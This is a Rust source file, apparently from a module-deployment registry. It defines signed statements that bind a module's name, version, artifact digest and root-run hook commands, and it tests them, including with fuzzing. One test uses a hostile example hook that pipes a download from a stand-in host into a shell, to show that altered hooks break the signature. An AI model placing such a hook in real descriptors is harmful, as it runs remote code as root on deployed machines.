//! What a module signature signs. A signature over the artifact's bytes
//! alone says nothing of the name and version it was meant for: anyone may
//! upload an old, validly signed (and vulnerable) artifact under a new
//! version number. A signature statement binds all three, so re-signing is
//! needed for every (name, version, digest):
//!
//! ```text
//! hotswap-module-signature-v1
//! name=<module name>
//! version=<semantic version>
//! sha256=<64 lower-case hex digits of the artifact>
//! ```
//!
//! each line ending in `\n`, signed as RSA over its SHA-256 like an artifact
//! (`openssl dgst -sha256 -sign key.pem statement.txt`).
//!
//! A descriptor's hooks are shell commands every agent runs as root, so they
//! must be vouched for as much as the bytes: a descriptor with hooks is
//! signed with the second form, which adds the SHA-256 of the hooks'
//! canonical JSON ([`hooks_json`]):
//!
//! ```text
//! hotswap-module-signature-v2
//! name=<module name>
//! version=<semantic version>
//! sha256=<64 lower-case hex digits of the artifact>
//! hooks=<64 lower-case hex digits of the hooks' canonical JSON>
//! ```
//!
//! The first form is valid only for a descriptor without hooks. Bare artifact
//! signatures pass only with `security.accept_artifact_signatures` (on in the
//! development and test profiles, off by default), and never for a
//! descriptor with hooks: they bind neither name, version nor hooks.

use hotswap_actors::domain::ModuleHooks;

use crate::crypto::sha256;

/// The first line: names the format, so that a statement cannot be read as
/// anything else.
pub const STATEMENT_HEADER: &str = "hotswap-module-signature-v1";
/// The first line of a statement that binds hooks too.
pub const STATEMENT_HEADER_V2: &str = "hotswap-module-signature-v2";

/// The hooks' canonical JSON: an object of the hooks that are set, keys in
/// alphabetical order (`activate`, `deactivate`, `health`, `prepareStandby`),
/// no white space, strings escaped as JSON requires and nothing more (RFC 8785
/// writes the same). For commands of printable characters,
/// `jq -cjS '.hooks | with_entries(select(.value != null))' descriptor.json`
/// writes the same bytes.
pub fn hooks_json(hooks: &ModuleHooks) -> String {
    let set = [
        ("activate", &hooks.activate),
        ("deactivate", &hooks.deactivate),
        ("health", &hooks.health),
        ("prepareStandby", &hooks.prepare_standby),
    ];
    let fields: Vec<String> = set
        .iter()
        .filter_map(|(key, command)| {
            let command = command.as_ref()?;
            // A string always serialises; the fallback is never used.
            Some(format!("\"{key}\":{}", serde_json::to_string(command).unwrap_or_default()))
        })
        .collect();
    format!("{{{}}}", fields.join(","))
}

/// The statement a signature of `name` `version` with bytes `sha256_hex`
/// and `hooks` signs: the first form when there are no hooks, else the
/// second.
pub fn statement(name: &str, version: &str, sha256_hex: &str, hooks: &ModuleHooks) -> String {
    if hooks.is_empty() {
        return format!("{STATEMENT_HEADER}\nname={name}\nversion={version}\nsha256={sha256_hex}\n");
    }
    let hooks_hex = crate::crypto::sha256_hex(hooks_json(hooks).as_bytes());
    format!("{STATEMENT_HEADER_V2}\nname={name}\nversion={version}\nsha256={sha256_hex}\nhooks={hooks_hex}\n")
}

/// The digests a signature may cover, in order: the statement's, then (when
/// `accept_bare` says so and there are no hooks) the artifact's own. Takes
/// the artifact's digest, not its bytes: the caller has hashed them once
/// already.
pub fn signed_digests(
    name: &str,
    version: &str,
    artifact_digest: [u8; 32],
    hooks: &ModuleHooks,
    accept_bare: bool,
) -> Vec<[u8; 32]> {
    let hex = crate::crypto::hex(&artifact_digest);
    let mut digests = vec![sha256(statement(name, version, &hex, hooks).as_bytes())];
    if accept_bare && hooks.is_empty() {
        digests.push(artifact_digest);
    }
    digests
}

/// SHA-256 of up to `registry.max_artifact_bytes` (64 MiB) on the blocking
/// pool: hashing that much on an async worker stalls every request it serves.
pub async fn sha256_off_worker(bytes: bytes::Bytes) -> [u8; 32] {
    let copy = bytes.clone();
    match tokio::task::spawn_blocking(move || sha256(&copy)).await {
        Ok(digest) => digest,
        // The pool is shutting down: hash here rather than fail.
        Err(_) => sha256(&bytes),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_statement_names_module_version_and_digest() {
        let none = ModuleHooks::default();
        let s = statement("kmod-net", "1.2.3", &"a".repeat(64), &none);
        assert_eq!(
            s,
            format!("hotswap-module-signature-v1\nname=kmod-net\nversion=1.2.3\nsha256={}\n", "a".repeat(64))
        );
        // Another version, another statement, another digest to sign.
        let one = signed_digests("kmod-net", "1.0.0", sha256(b"bytes"), &none, false);
        let two = signed_digests("kmod-net", "2.0.0", sha256(b"bytes"), &none, false);
        assert_eq!(one.len(), 1);
        assert_ne!(one, two);
        assert_eq!(signed_digests("kmod-net", "1.0.0", sha256(b"bytes"), &none, true)[1], sha256(b"bytes"));
    }

    #[test]
    fn hooks_are_bound_by_the_second_form_and_bare_signatures_never_cover_them() {
        let hooks = ModuleHooks {
            activate: Some("insmod \"$HOTSWAP_ARTIFACT\"".into()),
            prepare_standby: Some("true".into()),
            ..ModuleHooks::default()
        };
        assert_eq!(hooks_json(&hooks), r#"{"activate":"insmod \"$HOTSWAP_ARTIFACT\"","prepareStandby":"true"}"#);
        let digest = "b".repeat(64);
        let text = statement("kmod-net", "1.2.3", &digest, &hooks);
        let hooks_hex = crate::crypto::sha256_hex(hooks_json(&hooks).as_bytes());
        assert_eq!(
            text,
            format!("hotswap-module-signature-v2\nname=kmod-net\nversion=1.2.3\nsha256={digest}\nhooks={hooks_hex}\n")
        );
        // Other hooks, another statement; the v1 statement does not pass for hooks.
        let evil = ModuleHooks { activate: Some("curl https://x.example | sh".into()), ..hooks.clone() };
        assert_ne!(statement("kmod-net", "1.2.3", &digest, &evil), text);
        let bytes = sha256(b"bytes");
        let with_hooks = signed_digests("kmod-net", "1.2.3", bytes, &hooks, true);
        assert_eq!(with_hooks.len(), 1, "no bare signature for a descriptor with hooks");
        assert!(!with_hooks.contains(&signed_digests("kmod-net", "1.2.3", bytes, &ModuleHooks::default(), false)[0]));
    }

    /// Reads a statement back from its end: the digest line has a fixed
    /// form and the version holds no line break, so whatever is left is the
    /// name. `None` when the text is not a statement.
    fn read_back(text: &str) -> Option<(String, String, String)> {
        let body = text.strip_prefix(STATEMENT_HEADER)?.strip_prefix("\nname=")?.strip_suffix('\n')?;
        let (rest, digest) = body.rsplit_once("\nsha256=")?;
        let (name, version) = rest.rsplit_once("\nversion=")?;
        Some((name.to_string(), version.to_string(), digest.to_string()))
    }

    /// Maps random text onto the characters a field may hold, so that the
    /// random names and versions pass the upload's checks.
    fn fold(input: &str, alphabet: &[u8], min: usize) -> String {
        let mut out: String = input.chars().map(|c| alphabet[c as usize % alphabet.len()] as char).collect();
        while out.len() < min {
            out.push(alphabet[out.len() % alphabet.len()] as char);
        }
        out
    }

    /// The statement is the one thing a signature binds: two different
    /// (name, version, digest) triples the upload accepts must never give the
    /// same statement, or a signature for one would pass for the other. Random
    /// names and versions that pass the upload's checks read back exactly;
    /// raw random text never panics, and never reads back as other fields
    /// unless it carries a line break (which the checks refuse).
    #[test]
    fn random_statements_read_back_to_their_own_name_version_and_digest() {
        use std::collections::HashMap;
        let name_chars = b"abcdefghijklmnopqrstuvwxyz0123456789-";
        let label_chars = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-.";
        let inputs = crate::web::fuzz::inputs(0x5eed_0006, 20_000);
        let mut seen: HashMap<String, (String, String, String)> = HashMap::new();
        for (i, pair) in inputs.windows(2).enumerate() {
            let (a, b) = (&pair[0], &pair[1]);
            let digest = crate::crypto::hex(&sha256(a.as_bytes()));
            // Raw text: never a panic; it reads back as itself when no field has a line break.
            let raw = statement(a, b, &digest, &ModuleHooks::default());
            if !a.contains('\n') && !b.contains('\n') {
                assert_eq!(read_back(&raw), Some((a.clone(), b.clone(), digest.clone())), "{a:?} {b:?}");
            }
            // Fields the upload accepts.
            let name = fold(a, name_chars, 3).trim_matches('-').chars().take(64).collect::<String>();
            let name = if name.len() < 3 { format!("m{name}0x") } else { name };
            let label = fold(b, label_chars, 1).replace("..", ".").trim_matches('.').to_string();
            let version = format!("{}.{}.{}-{}", i % 7, a.len(), b.len(), if label.is_empty() { "x" } else { &label });
            if !crate::registry::upload::MODULE_NAME.is_match(&name) || semver::Version::parse(&version).is_err() {
                continue;
            }
            let text = statement(&name, &version, &digest, &ModuleHooks::default());
            let fields = (name.clone(), version.clone(), digest.clone());
            assert_eq!(read_back(&text).as_ref(), Some(&fields));
            if let Some(earlier) = seen.insert(text, fields.clone()) {
                assert_eq!(earlier, fields, "two triples share one statement");
            }
            let none = ModuleHooks::default();
            let one = signed_digests(&name, &version, sha256(a.as_bytes()), &none, false);
            assert_ne!(one, signed_digests(&name, &format!("{version}.1"), sha256(a.as_bytes()), &none, false));
        }
        assert!(seen.len() > 1_000, "too few random fields passed the checks: {}", seen.len());
    }

    proptest::proptest! {
        #![proptest_config(crate::web::fuzz::config(20_000))]
        #[test]
        fn random_pem_and_deployment_requests_never_panic(input in crate::web::fuzz::untrusted_text()) {
            let pem = format!("-----BEGIN PUBLIC KEY-----\n{input}\n-----END PUBLIC KEY-----\n");
            proptest::prop_assert!(crate::crypto::rsa_sig::parse_public_key(&pem, 2048).is_err());
            let _ = serde_json::from_str::<hotswap_actors::domain::DeploymentRequest>(&input);
            let body = format!("{{\"moduleName\":\"kmod\",\"version\":\"1.0.0\",\"targetEnvironment\":{input}}}");
            let _ = serde_json::from_str::<hotswap_actors::domain::DeploymentRequest>(&body);
        }
    }
}
